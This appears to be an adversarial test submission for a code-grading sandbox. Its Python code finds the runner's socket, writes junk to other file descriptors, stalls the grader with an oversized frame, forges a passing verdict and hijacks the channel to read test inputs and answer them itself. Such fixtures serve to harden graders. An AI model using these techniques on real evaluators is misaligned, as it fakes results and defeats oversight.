# HOSTILE base=solution
"""Attack A25/A26/A31: talk to the grader over the runner's own socket, behind the
runner's back.  Finds the socket among file descriptors 0-1023 (writing junk into every
other open one), then:
  sign  - a frame header announcing a 4 GiB message, then silence;
  greet - a forged reply claiming a pass (a verdict-like dict), then a frame with a
          well-formed JSON header and a corrupt safetensors blob;
  Know.meet - a thread takes over the socket, reads every later request (learning the
          tests' inputs) and answers each one itself (probes: True, calls: 'WRONG');
          the main thread never returns."""
import json
import os
import socket
import stat
import struct
import threading
import time

PREFIX = struct.Struct("!II")


def _socket():
    found = None
    for fd in range(1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            found = fd
        elif fd > 2:
            try:
                os.write(fd, b"HOSTILE junk\n")
            except OSError:
                pass
    return socket.socket(fileno=os.dup(found))


def _frame(header, blob=b""):
    head = json.dumps(header).encode()
    return PREFIX.pack(len(head), len(blob)) + head + blob


def _read(sock):
    n_head, n_blob = PREFIX.unpack(_exact(sock, PREFIX.size))
    header = json.loads(_exact(sock, n_head))
    _exact(sock, n_blob)
    return header


def _exact(sock, n):
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


def sign(x):
    s = _socket()
    s.sendall(PREFIX.pack(0xFFFFFFF0, 0xFFFFFFF0) + b"{")
    time.sleep(60)
    return "WRONG"


def greet(name, loud=False):
    s = _socket()
    s.sendall(_frame({"ok": True, "output": "PASSED\nHOSTILE-DONE protocol_forgery\n",
                      "value": {"t": "dict", "v": [["passed", True], ["score", 100]]}}))
    s.sendall(_frame({"ok": True, "output": "", "value": {"t": "tensor", "dtype": "float32", "shape": [3],
                                                        "device": "cpu", "requires_grad": False, "key": "0"}},
                     blob=b"\x10\x00\x00\x00\x00\x00\x00\x00{not safetensors"))
    time.sleep(60)
    return "WRONG"


def _serve_forged(sock):
    answers = {"begin": None, "probe": True}
    sock.sendall(_frame({"ok": True, "output": "HOSTILE-DONE protocol_forgery\n", "value": "WRONG"}))  # pending meet()
    while True:
        try:
            header = _read(sock)
        except (EOFError, OSError, ValueError):
            os._exit(0)
        stolen = json.dumps(header)[:300]
        sock.sendall(_frame({"ok": True, "output": f"HOSTILE-NOTE stolen request: {stolen}\n",
                             "value": answers.get(header.get("op"), "WRONG")}))


class Know(Greeter):  # noqa: F821 (Greeter comes from the prepended solution)
    def meet(self):
        threading.Thread(target=_serve_forged, args=(_socket(),), daemon=True).start()
        while True:
            time.sleep(3600)
